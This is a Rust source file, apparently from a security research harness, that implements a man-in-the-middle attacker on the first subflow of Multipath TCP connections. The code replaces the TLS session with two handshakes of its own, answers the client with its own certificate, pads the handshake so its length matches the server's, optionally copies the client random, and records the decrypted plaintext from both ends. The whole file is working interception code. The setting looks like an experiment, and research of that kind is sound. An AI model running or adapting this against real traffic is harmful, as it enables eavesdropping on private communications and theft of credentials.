//! A man in the middle who leaves Multipath TCP to the client and the server, and replaces TLS inside its
//! first subflow.

use std::collections::HashMap;
use std::io::{self, Read as _, Write as _};
use std::sync::{Arc, Mutex, PoisonError};

use rustls::pki_types::ServerName;
use rustls::{ClientConnection, Connection, ServerConfig, ServerConnection};

use super::mitm::{MptcpMitmPlan, RANDOM_AT, client_config};
use super::replaced::ReplacedStream;
use crate::attacker::with_client_random;
use crate::link::segment::{SYN, Segment};
use crate::link::{Attack, Sent};
use crate::secrets::HOST;
use crate::{Captured, Result, provider};

/// The attempts to answer the client with as many bytes as the server did: some signatures vary in length.
const MAX_ANSWERS: usize = 64;

/// A man in the middle on the first link. Every packet goes on with its headers, so the keys, the tokens
/// and the sequence numbers of both ends are each other's: a join over another link reaches the real
/// server, and the counters of both kernels match. Only the TLS bytes are theirs, in the same number.
///
/// They are verified by the server like any client, and answer the client with a certificate of their own,
/// whose chain must have the length of the server's.
#[derive(Clone, Debug)]
pub struct Splicer {
    plan: Arc<MptcpMitmPlan>,
    captured: Captured,
    /// By the client's port.
    connections: Arc<Mutex<HashMap<u16, Spliced>>>,
}

impl Splicer {
    /// An attacker on connections to the server of this plan.
    #[must_use]
    pub fn new(mut plan: MptcpMitmPlan) -> Self {
        // The server has none either, or their length would have to be that of the server's.
        plan.identity.send_tls13_tickets = 0;
        Self {
            plan: Arc::new(plan),
            captured: Captured::default(),
            connections: Arc::default(),
        }
    }

    /// The data that they captured.
    #[must_use]
    pub fn captured(&self) -> &Captured {
        &self.captured
    }

    /// For both directions of the first link.
    #[must_use]
    pub fn attacks(&self) -> [Attack; 2] {
        [true, false].map(|is_up| -> Attack {
            let splicer = self.clone();
            Box::new(move |packet| match Segment::parse(&packet) {
                Some(segment) => splicer.replace(is_up, segment),
                None => vec![Sent::On(packet)],
            })
        })
    }

    fn replace(&self, is_up: bool, segment: Segment) -> Vec<Sent> {
        let (client, server) = match is_up {
            true => (segment.from, segment.to),
            false => (segment.to, segment.from),
        };
        if self.plan.server != server.into() {
            return vec![Sent::On(segment.packet())];
        }
        let connections = self.connections.lock();
        let mut connections = connections.unwrap_or_else(PoisonError::into_inner);
        if is_up && segment.flags & SYN != 0 {
            self.captured.count_connection(false);
            connections.insert(client.1, Spliced::new(self));
        }
        let sent = match connections.get_mut(&client.1) {
            Some(connection) => connection.replace(is_up, segment),
            None => vec![segment],
        };
        sent.iter()
            .map(|segment| Sent::On(segment.packet()))
            .collect()
    }
}

/// A connection whose TLS they replace.
#[derive(Debug)]
struct Spliced {
    up: ReplacedStream,
    down: ReplacedStream,
    tls: TwoHandshakes,
}

impl Spliced {
    fn new(splicer: &Splicer) -> Self {
        Self {
            up: ReplacedStream::default(),
            down: ReplacedStream::default(),
            tls: TwoHandshakes {
                plan: Arc::clone(&splicer.plan),
                captured: splicer.captured.clone(),
                hello: Vec::new(),
                flight: 0,
                with_server: None,
                with_client: None,
            },
        }
    }

    /// The segments that go on in place of this one.
    fn replace(&mut self, is_up: bool, segment: Segment) -> Vec<Segment> {
        let Self { up, down, tls } = self;
        let stream = if is_up { &mut *up } else { &mut *down };
        for record in stream.read(&segment) {
            let replaced = match is_up {
                true => tls.take_from_client(&record),
                false => tls.take_from_server(&record),
            };
            // Otherwise nothing more goes on, and both ends see no answer.
            if let Ok([to_server, to_client]) = replaced {
                up.write(&to_server);
                down.write(&to_client);
            }
        }
        let stream = if is_up { up } else { down };
        stream.pass(segment)
    }
}

/// The bytes of TLS for the server, and for the client.
type Written = Result<[Vec<u8>; 2]>;

/// Their TLS connections to both ends.
#[derive(Debug)]
struct TwoHandshakes {
    plan: Arc<MptcpMitmPlan>,
    captured: Captured,
    /// The client's first record.
    hello: Vec<u8>,
    /// The length of the server's answer.
    flight: usize,
    with_server: Option<Connection>,
    with_client: Option<Connection>,
}

impl TwoHandshakes {
    fn take_from_client(&mut self, record: &[u8]) -> Written {
        let (Some(server), Some(client)) = (&mut self.with_server, &mut self.with_client) else {
            return self.begin(record);
        };
        let was_handshaking = client.is_handshaking();
        let (bytes, closes) = read(client, record)?;
        if was_handshaking && !client.is_handshaking() {
            self.captured.count_handshake(false);
        }
        self.captured.record_from_victim(&bytes);
        Ok([forward(server, &bytes, closes)?, written(client)?])
    }

    /// Sends a ClientHello of their own in place of this one.
    fn begin(&mut self, hello: &[u8]) -> Written {
        let random = hello
            .get(RANDOM_AT..RANDOM_AT + 32)
            .ok_or("no ClientHello")?;
        let crypto = match self.plan.copies_random {
            true => with_client_random(random.try_into()?),
            false => provider(),
        };
        let config = client_config(crypto, self.plan.roots.clone())?;
        let name = ServerName::try_from(HOST)?;
        let mut server = Connection::from(ClientConnection::new(Arc::new(config), name)?);
        let sent = written(&mut server)?;
        self.hello = hello.to_vec();
        self.with_server = Some(server);
        Ok([sent, Vec::new()])
    }

    fn take_from_server(&mut self, record: &[u8]) -> Written {
        let server = self.with_server.as_mut().ok_or("no ClientHello yet")?;
        let (bytes, closes) = read(server, record)?;
        if let Some(client) = &mut self.with_client {
            self.captured.record_from_server(&bytes);
            return Ok([written(server)?, forward(client, &bytes, closes)?]);
        }
        self.flight += record.len();
        if server.is_handshaking() {
            return Ok(Default::default());
        }
        let finished = written(server)?;
        let (client, flight) = answer(&self.plan.identity, &self.hello, self.flight)?;
        self.with_client = Some(client);
        Ok([finished, flight])
    }
}

/// An answer of this length to the ClientHello.
fn answer(identity: &ServerConfig, hello: &[u8], len: usize) -> Result<(Connection, Vec<u8>)> {
    for _ in 0..MAX_ANSWERS {
        let config = Arc::new(identity.clone());
        let mut client = Connection::from(ServerConnection::new(config)?);
        read(&mut client, hello)?;
        let flight = written(&mut client)?;
        if flight.len() == len {
            return Ok((client, flight));
        }
    }
    Err("no answer has the length of the server's".into())
}

/// Takes a record; its plaintext, and whether the peer has closed.
fn read(connection: &mut Connection, mut record: &[u8]) -> Result<(Vec<u8>, bool)> {
    while !record.is_empty() {
        connection.read_tls(&mut record)?;
    }
    let state = connection.process_new_packets()?;
    let mut bytes = vec![0; state.plaintext_bytes_to_read()];
    connection.reader().read_exact(&mut bytes)?;
    Ok((bytes, state.peer_has_closed()))
}

fn forward(to: &mut Connection, bytes: &[u8], closes: bool) -> io::Result<Vec<u8>> {
    to.writer().write_all(bytes)?;
    if closes {
        to.send_close_notify();
    }
    written(to)
}

/// The bytes of TLS that wait to be sent.
fn written(connection: &mut Connection) -> io::Result<Vec<u8>> {
    let mut bytes = Vec::new();
    while connection.wants_write() {
        connection.write_tls(&mut bytes)?;
    }
    Ok(bytes)
}
